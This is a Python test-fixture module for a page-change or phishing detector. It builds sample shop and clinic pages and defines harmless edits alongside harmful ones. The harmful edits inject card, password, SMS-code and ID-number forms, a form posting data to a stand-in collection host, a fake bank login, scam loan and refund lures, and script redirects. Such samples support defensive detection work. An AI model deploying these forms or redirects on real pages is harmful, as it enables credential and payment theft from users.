"""Pages like those behind links of messages, and what is done to them: 50 edits that mean nothing,
and edits that make another page. Every one is a function of page and random numbers."""

# ruff: noqa: E501 - pages stand here as sites send them

from __future__ import annotations

import re
from collections.abc import Callable
from random import Random

Edit = Callable[[str, Random], str]

SHOP = """<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>安信商城 - 夏季特卖</title>
<link rel="icon" href="/favicon.ico"><link rel="stylesheet" href="/static/main.3f9a1c.css">
<script src="/static/app.77aa01.js"></script></head><body>
<nav class="nav-x1"><a href="/">首页</a><a href="/c/1?sid=8f3a2b">女装</a><a href="/c/2?sid=8f3a2b">男装</a></nav>
<div class="banner swiper"><img src="/b/summer1.jpg" alt="夏季特卖"><p>夏季特卖 第1场</p></div>
<main class="css-1a2b3c"><h1>夏季特卖会场</h1><p class="time">更新时间：2026年11月22日 星期日 10:30</p>
<p>本次特卖由安信商城自营，全场支持七天无理由退换，下单后四十八小时内发货，江浙沪次日送达。</p>
{items}
<p>活动说明：每位顾客限购五件，优惠券不与其他优惠同享，退货时优惠金额按比例扣减，解释权归安信商城。</p>
<form action="/search" method="get"><input name="q" placeholder="搜索商品"><input type="hidden" name="csrf" value="a81f"></form>
<p class="count">已有 12,345 人浏览，今日下单 678 笔</p></main>
<aside class="sidebar ads"><p>推荐：防晒霜第二件半价</p><a href="https://ads.example.net/x?1">广告</a></aside>
<section class="comments"><p>李**：面料很好，会回购。</p><p>王**：发货很快。</p></section>
<footer>客服电话 400-820-1234 沪ICP备12345678号 版权所有 © 2026 安信商城</footer>
<!-- build 2026-11-22 10:30:11 node7 --></body></html>"""
WARES = (
    "纯棉连衣裙透气舒适适合日常通勤",
    "亚麻衬衫挺括不易皱四季可穿",
    "真丝半身裙垂感好光泽柔和",
    "防晒外套轻薄可收纳户外必备",
    "真皮凉鞋软底防滑走路不累",
    "草编手袋手工编织容量充足",
    "速干运动短裤排汗快干不贴身",
    "宽檐遮阳帽可折叠方便携带",
)
NEWS = """<!doctype html><html lang="en"><head><title>Harbour Clinic - Your appointment</title></head><body>
<div id="top"><a href="/">Harbour Clinic</a><a href="/visit">Visiting</a></div>
<div class="cookie-banner">We use cookies to improve this site. <button>Accept</button></div>
<article><h1>Before your appointment</h1><p>Last updated on Sunday, November 22, 2026 at 10:30 am.</p>
<p>Please arrive ten minutes early and bring your appointment letter with you. Visitors may wait in the
lobby, where drinks are served. Parking is free for the first two hours in the garage on Mill Street.</p>
<p>If you cannot come, tell us at least one day before, so that somebody else can have your place. You can
do so by telephone on weekdays or through the link in your message. Children are welcome.</p>
<p>Blood samples are taken on an empty stomach in the morning. You may drink water. Take your usual
medicine unless your doctor told you otherwise, and write down what you take.</p></article>
<div class="related"><p>Related: vaccination hours</p></div><p class="views">Viewed 12,345 times</p>
<footer>Harbour Clinic, 12 Mill Street</footer></body></html>"""


def shop() -> str:
    """Return a shop's page."""
    items = "\n".join(
        f'<div class="item css-{n}9f"><h3>{ware}</h3><span class="price">¥{59 + 10 * n}.00</span>'
        f'<span class="stock">库存{30 + n}件</span><a href="/p/{1000 + n}?sid=8f3a2b&t=1">购买</a></div>'
        for n, ware in enumerate(WARES)
    )
    return SHOP.replace("{items}", items)


def clinic() -> str:
    """Return a clinic's page."""
    return NEWS


def _figures(pattern: str) -> Edit:
    """Return an edit that puts other figures where a pattern stands."""

    def edit(html: str, random: Random) -> str:
        return re.sub(
            pattern,
            lambda hit: re.sub(r"\d", lambda _: str(random.randrange(10)), hit.group()),
            html,
        )

    return edit


def _before(mark: str, words: Callable[[Random], str]) -> Edit:
    return lambda html, random: html.replace(mark, words(random) + mark, 1)


def _word(random: Random, size: int = 6) -> str:
    return "".join(random.choice("abcdef0123456789") for _ in range(size))


def _days(html: str, random: Random) -> str:
    for ours, others in (
        ("星期日", "星期一星期二星期三星期四星期五星期六"),
        ("Sunday", "Monday Tuesday Friday Saturday"),
        ("November", "December January March October"),
    ):
        choices = others.split() if " " in others else [others[n : n + 3] for n in range(0, 18, 3)]
        html = html.replace(ours, random.choice(choices))
    return html


ADS = (
    "新用户首单立减二十元",
    "会员日双倍积分等你来",
    "秋装新品抢先看",
    "满三百包邮到家",
    "下载客户端更优惠",
    "Spring collection now in store",
    "Free delivery over 50",
    "Join our newsletter",
    "Flu season tips",
)
COMMENTS = (
    "张**：尺码标准，颜色和图片一样。",
    "赵**：第二次买了，质量稳定。",
    "陈**：客服态度好，换货很快。",
    "刘**：有点偏大，其他满意。",
    "Great service, thank you.",
    "Helpful page.",
    "周**：包装仔细，送人合适。",
)


def _ad(random: Random) -> str:
    host = f"cdn{random.randrange(99)}.example.net"
    return (
        f'<div class="ad-slot ads"><a href="https://{host}/c?{_word(random)}">'
        f"<img src='https://{host}/{_word(random)}.jpg' alt=''>{random.choice(ADS)}</a></div>"
    )


def _comments(random: Random) -> str:
    return (
        "<div class='comments'>"
        + "".join(
            f"<p>{random.choice(COMMENTS)} {random.randrange(1, 59)}分钟前</p>"
            for _ in range(random.randrange(1, 12))
        )
        + "</div>"
    )


def _shuffle(html: str, random: Random) -> str:
    """Order the wares otherwise."""
    items = re.findall(r'<div class="item.*?</div>', html)
    mixed = random.sample(items, len(items))
    for place, item in enumerate(items):
        html = html.replace(item, f"\0{place}\0", 1)
    for place, item in enumerate(mixed):
        html = html.replace(f"\0{place}\0", item, 1)
    return html


def _new_ware(html: str, random: Random) -> str:
    names = ("加厚保暖羽绒背心", "羊毛围巾多色可选", "牛仔直筒裤显瘦百搭", "纯棉短袜六双装")
    return html.replace(
        '<div class="item',
        f'<div class="item"><h3>{random.choice(names)}</h3><span>¥{random.randrange(30, 300)}'
        '</span></div><div class="item',
        1,
    )


def _sold_out(html: str, random: Random) -> str:
    return re.sub(
        r"库存\d+件", lambda hit: "已售罄" if random.random() < 0.4 else hit.group(), html
    )


def _space(html: str, random: Random) -> str:
    return re.sub(r">\s*<", lambda _: ">" + random.choice(("", "\n", "  ", "\n\t")) + "<", html)


def _classes(html: str, random: Random) -> str:
    return re.sub(r"css-\w+", lambda _: f"css-{_word(random)}", html)


def _tokens(html: str, random: Random) -> str:
    html = re.sub(r"sid=\w+", lambda _: f"sid={_word(random, 16)}", html)
    return re.sub(r'value="a81f"', lambda _: f'value="{_word(random, 32)}"', html)


def _files(html: str, random: Random) -> str:
    return re.sub(r"\.[0-9a-f]{6}\.(css|js)", lambda hit: f".{_word(random)}.{hit.group(1)}", html)


def _wrap(html: str, random: Random) -> str:
    return html.replace("<h1>", "<div class='w'><div>").replace("</h1>", "</div></div>")


BENIGN: dict[str, Edit] = {
    "dates": _figures(r"2026年\d+月\d+日|November \d+, \d+|\d\d:\d\d"),
    "days": _days,
    "counters": _figures(r"[\d,]+ (?:人浏览|times)|下单 \d+"),
    "prices": _figures(r"¥\d+\.\d\d"),
    "stock": _figures(r"库存\d+"),
    "sold out": _sold_out,
    "tokens": _tokens,
    "class names": _classes,
    "file names": _files,
    "whitespace": _space,
    "an advert": _before("</body>", _ad),
    "adverts above": _before("<h1>", _ad),
    "comments": _before("<footer", _comments),
    "a cookie banner": _before(
        "</body>",
        lambda r: (
            '<div class="cookie consent"><p>本网站使用 Cookie 改善体验，继续浏览即表示同意。</p><button>同意</button></div>'
        ),
    ),
    "no cookie banner": lambda html, r: re.sub(r'<div class="cookie-banner">.*?</div>', "", html),
    "a rotating banner": lambda html, r: re.sub(r"夏季特卖 第\d场", r.choice(ADS), html),
    "another picture": lambda html, r: html.replace("summer1", f"summer{r.randrange(2, 99)}"),
    "a build comment": lambda html, r: html.replace("<!-- build", f"<!-- {_word(r)} build"),
    "an order of wares": _shuffle,
    "a new ware": _new_ware,
    "a script of counting": _before(
        "</head>",
        lambda r: (
            f"<script>var _hmt=_hmt||[];(function(){{var s=document.createElement('script');s.src="
            f"'https://hm.example.org/h.js?{_word(r)}';document.body.appendChild(s)}})();</script>"
        ),
    ),
    "another copyright": lambda html, r: html.replace("© 2026", f"© {r.randrange(2027, 2040)}"),
    "another layout": _wrap,
    "a greeting": _before(
        "<h1>", lambda r: f"<p>{r.choice(('早上好', '下午好', 'Good evening'))}</p>"
    ),
    "a ticker": _before(
        "<h1>", lambda r: f'<p class="ticker">{r.choice("李张王")}**刚刚下单了1件</p>'
    ),
}
"""25 edits; each is made on both pages, so 50. A random number decides what exactly."""


def _form(fields: str, to: str = "/submit") -> Edit:
    return lambda html, random: html.replace(
        "</main>", f"<form action='{to}' method='post'>{fields}</form></main>"
    ).replace("</article>", f"<form action='{to}' method='post'>{fields}</form></article>")


def _body(words: str) -> Edit:
    return lambda html, random: re.sub(
        r"<(main|article)\b.*?</(main|article)>",
        lambda _: f"<main>{words}</main>",
        html,
        flags=re.DOTALL,
    )


HARMFUL: dict[str, Edit] = {
    "a card form": _form("<label>银行卡号<input name=a></label>"),
    "a card form in English": _form(
        '<input name="cc" placeholder="Card number"><input name="cvv">'
    ),
    "a card form by its autocomplete": _form('<input name=x1 autocomplete="cc-number">'),
    "a password": _form("<input type=password name=q>"),
    "a password by its label": _form("<div>取款密码</div><input name=f2>"),
    "a code from a message": _form("<label for=c>短信验证码</label><input id=c>"),
    "an identity number": _form("<input placeholder='请输入身份证号码' name=n>"),
    "a form that posts elsewhere": _form(
        "<input name=name><input name=mobile>", "https://collect.example.net/i"
    ),
    "a bank's login": lambda html, random: (
        "<html><head><title>中国建设银行 个人网上银行</title></head><body><h1>登录</h1><form>"
        "卡号<input name=k> 密码<input type=password></form></body></html>"
    ),
    "other text": _body(
        "<h1>恭喜您获得资格</h1><p>您的专属额度已经开通，凭身份信息即可申请，无需抵押当天到账，名额有限先到先得，点击下方按钮立即办理。</p>"
        "<p>我们为您提供灵活的方案，期限自选，利率优惠，审核快速，资金直接汇入您的账户，欢迎咨询在线顾问。</p>"
    ),
    "gambling": _body(
        "<h1>真人荷官在线</h1><p>百家乐时时彩老虎机，首存送彩金，提现秒到账，注册即送体验金，棋牌天天返利。</p>"
        * 2
    ),
    "loans beside the wares": lambda html, random: html.replace(
        "<footer", "<div>急用钱？无抵押贷款，额度最高三十万，当天放款，征信花也可以</div><footer"
    ),
    "a chat": lambda html, random: html.replace(
        "<footer", "<p>退款请加微信 refund8899 办理</p><footer"
    ),
    "another telephone": lambda html, random: (
        html.replace("400-820-1234", "170-1234-5678")
        .replace("170-1234-5678", "17012345678")
        .replace("<footer>Harbour", "<footer>Call 17012345678 Harbour")
    ),
    "an account to pay to": lambda html, random: html.replace(
        "<footer", "<p>请汇至 6222 0202 0011 2345 679 王某</p><footer"
    ),
    "needs scripts": lambda html, random: '<div id="root"></div><script src="/a.js"></script>',
    "moves by script": lambda html, random: html.replace(
        "</head>", "<script>window.location.href='https://x.example.net/'</script></head>"
    ),
    "moves phones by script": lambda html, random: html.replace(
        "</head>",
        "<script>if(/Android/.test(navigator.userAgent)){location.replace('/m')}</script></head>",
    ),
    "a frame over all": lambda html, random: "<body><iframe src='https://x.example.net/'></iframe>",
    "a picture of a page": lambda html, random: "<body><img src='/page.png'>",
    "empty": lambda html, random: "<html><body></body></html>",
}
"""What makes another page of it. "another telephone" and "an account" are about the shop only."""
